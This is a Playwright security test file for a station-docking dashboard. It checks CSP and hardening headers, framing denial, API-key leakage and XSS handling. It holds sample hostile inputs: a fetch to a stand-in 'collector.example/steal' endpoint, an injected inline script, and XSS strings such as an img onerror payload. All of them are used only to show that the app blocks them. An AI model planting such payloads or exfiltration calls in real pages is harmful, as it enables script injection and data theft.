import { readFileSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { generateDockingHistory, type GeneratedEvent } from '../support/generate-history';
import { craftedIssDocking, fakeLL2, eventRows, spacecraftInRow } from './ll2-routes';

/** The whole policy, so that any loosening (an 'unsafe-eval', a wildcard, a data: image) fails. */
const POLICY = [
  "default-src 'self'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self' https://thespacedevs-prod.nyc3.digitaloceanspaces.com https://thespacedevs-dev.nyc3.digitaloceanspaces.com",
  "connect-src 'self' https://ll.thespacedevs.com https://lldev.thespacedevs.com",
  "object-src 'none'",
  "base-uri 'self'",
  "worker-src 'self'",
  "manifest-src 'self'",
  "form-action 'self'",
].join('; ');

test('npm start sends the policy as a header, where it also forbids framing, with hardening headers', async ({
  page,
}) => {
  await fakeLL2(page, generateDockingHistory({ seed: 12, count: 5 }));
  const response = await page.goto('/');
  const headers = response!.headers();
  expect(headers['content-security-policy']).toBe(`${POLICY}; frame-ancestors 'none'`);
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['permissions-policy']).toBe('camera=(), microphone=(), geolocation=()');

  // A page of another origin cannot show the dashboard in a frame; it can frame other pages.
  const app = new URL('/', page.url()).href;
  await page.route('http://framer.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${app}"></iframe><iframe src="http://framed.example/"></iframe>`,
    }),
  );
  await page.route('http://framed.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<p>Any page</p>' }),
  );
  await page.goto('http://framer.example/');
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toEqual(['http://framer.example/', 'chrome-error://chromewebdata/', 'http://framed.example/']);
});

/** Collects the page's Content-Security-Policy violations from its first script on. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const violations: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = violations;
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test('the build ships a Content-Security-Policy that the dashboard itself never violates', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  await fakeLL2(page, generateDockingHistory({ seed: 12, count: 150 }));
  await page.goto('/?station=4');
  await expect(page.getByRole('heading', { name: /of 150 events$/ })).toBeVisible();
  const policy = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(policy).toBe(POLICY);

  // The timeline, the table, the drawer and the settings, all under the policy.
  await eventRows(page).nth(1).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.getByRole('button', { name: 'Close details' }).click();
  await page.getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByRole('dialog', { name: 'Settings' })).toBeVisible();
  expect(await violations()).toEqual([]);
});

test('the policy blocks an injected inline script and requests to other origins', async ({
  page,
}) => {
  const violations = await watchViolations(page);
  await fakeLL2(page, generateDockingHistory({ seed: 12, count: 50 }));
  await page.goto('/');
  await expect(page.getByRole('heading', { name: '50 events' })).toBeVisible();

  const injected = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.head.append(script);
    return (window as unknown as { __injected?: boolean }).__injected ?? false;
  });
  expect(injected).toBe(false);

  const outcome = await page.evaluate(() =>
    fetch('https://collector.example/steal').then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(outcome).toBe('blocked');
  // Each is reported twice: by the policy sent as a header and by the same one in the page.
  await expect
    .poll(violations)
    .toEqual([
      'script-src-elem inline',
      'script-src-elem inline',
      'connect-src https://collector.example/steal',
      'connect-src https://collector.example/steal',
    ]);
});

test('the API key reaches only the LL2 origin as a header: never the URL, a copied link or the console', async ({
  page,
  context,
}) => {
  const KEY = 'k3y-that-must-not-leak';
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const consoleText: string[] = [];
  page.on('console', (message) => consoleText.push(message.text()));
  page.on('pageerror', (error) => consoleText.push(error.message));
  const seen: { url: string; auth: string | undefined }[] = [];
  page.on('request', (request) =>
    seen.push({ url: request.url(), auth: request.headers()['authorization'] }),
  );
  const ll2 = await fakeLL2(page, generateDockingHistory({ seed: 15, count: 120 }));

  await page.goto('/');
  await expect(page.getByRole('heading', { name: '120 events' })).toBeVisible();
  await page.getByRole('button', { name: 'Settings' }).click();
  await page.getByLabel('API key (optional)').fill(KEY);
  await page.getByRole('button', { name: 'Save' }).click();

  // A failing refresh, so errors are logged while the key is in use.
  ll2.override = async (route) => {
    await route.fulfill({
      status: 500,
      body: 'boom',
      headers: { 'Access-Control-Allow-Origin': '*' },
    });
    return true;
  };
  await page.getByRole('button', { name: 'Refresh' }).click();
  await expect(page.getByRole('alert').filter({ hasText: 'Refresh failed' })).toBeVisible({
    timeout: 20_000,
  });
  await eventRows(page).nth(1).click();
  await page.getByRole('button', { name: 'Copy link' }).click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());

  const withKey = seen.filter((request) => request.auth === `Token ${KEY}`);
  expect(withKey.length).toBeGreaterThan(0);
  expect(
    withKey.every((request) => new URL(request.url).origin === 'https://ll.thespacedevs.com'),
  ).toBe(true);
  expect(seen.filter((request) => request.url.includes(KEY))).toEqual([]);
  expect(page.url()).not.toContain(KEY);
  expect(copied).toContain('event=');
  expect(copied).not.toContain(KEY);
  expect(consoleText.filter((text) => text.includes(KEY))).toEqual([]);
});

test('an exported file holds the rows shown, in their order, and never the API key', async ({
  page,
}) => {
  const KEY = 'export-must-not-carry-this-key';
  await fakeLL2(page, generateDockingHistory({ seed: 16, count: 180 }));
  await page.goto('/?station=4&sort=spacecraft');
  await expect(page.getByRole('heading', { name: /of 180 events$/ })).toBeVisible();
  await page.getByRole('button', { name: 'Settings' }).click();
  await page.getByLabel('API key (optional)').fill(KEY);
  await page.getByRole('button', { name: 'Save' }).click();

  const shown = Number(
    /^(\d+) of/.exec(
      (await page.getByRole('heading', { name: /of 180 events$/ }).textContent())!,
    )![1],
  );
  const firstRow = await spacecraftInRow(page, 1);

  for (const format of ['CSV', 'JSON'] as const) {
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: `Export ${format}` }).click();
    const file = await downloading;
    expect(file.suggestedFilename()).toMatch(
      new RegExp(`^station-dockings_\\d{4}-\\d\\d-\\d\\d_station-4\\.${format.toLowerCase()}$`),
    );
    const text = readFileSync((await file.path())!, 'utf8');
    expect(text).not.toContain(KEY);
    if (format === 'CSV') {
      const lines = text.trim().split('\r\n');
      expect(lines).toHaveLength(shown + 1);
      expect(lines[1]).toContain(`,${firstRow},`);
      expect(lines[1]).toMatch(/^\d+,\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z,/);
    } else {
      const rows = JSON.parse(text) as { spacecraft: string }[];
      expect(rows).toHaveLength(shown);
      expect(rows[0]!.spacecraft).toBe(firstRow);
    }
  }
});

test('hostile text from the API is shown as text and runs nothing', async ({ page }) => {
  const violations = await watchViolations(page);
  const base = generateDockingHistory({ seed: 17, count: 30 });
  const hostile = craftedIssDocking(
    base,
    92_001,
    '<img src=x onerror="window.hacked=1">',
    '2026-06-01T00:00:00Z',
    null,
  ) as GeneratedEvent & { flight_vehicle_chaser: { spacecraft: { description: string } } };
  hostile.flight_vehicle_chaser.spacecraft.description = '<script>window.hacked=2</script>';
  await fakeLL2(page, [...base, hostile]);
  await page.goto('/?event=92001');
  const drawer = page.getByRole('dialog', {
    name: '<img src=x onerror="window.hacked=1"> at Test port',
  });
  await expect(drawer).toBeVisible();
  await expect(drawer.getByText('<script>window.hacked=2</script>')).toBeVisible();
  await expect(
    page
      .getByRole('table', { name: 'Docking events' })
      .getByText('<img src=x onerror="window.hacked=1">'),
  ).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBe(
    undefined,
  );
  expect(await page.locator('img[src="x"], script:not([src])').count()).toBe(0);
  expect(await violations()).toEqual([]);
});
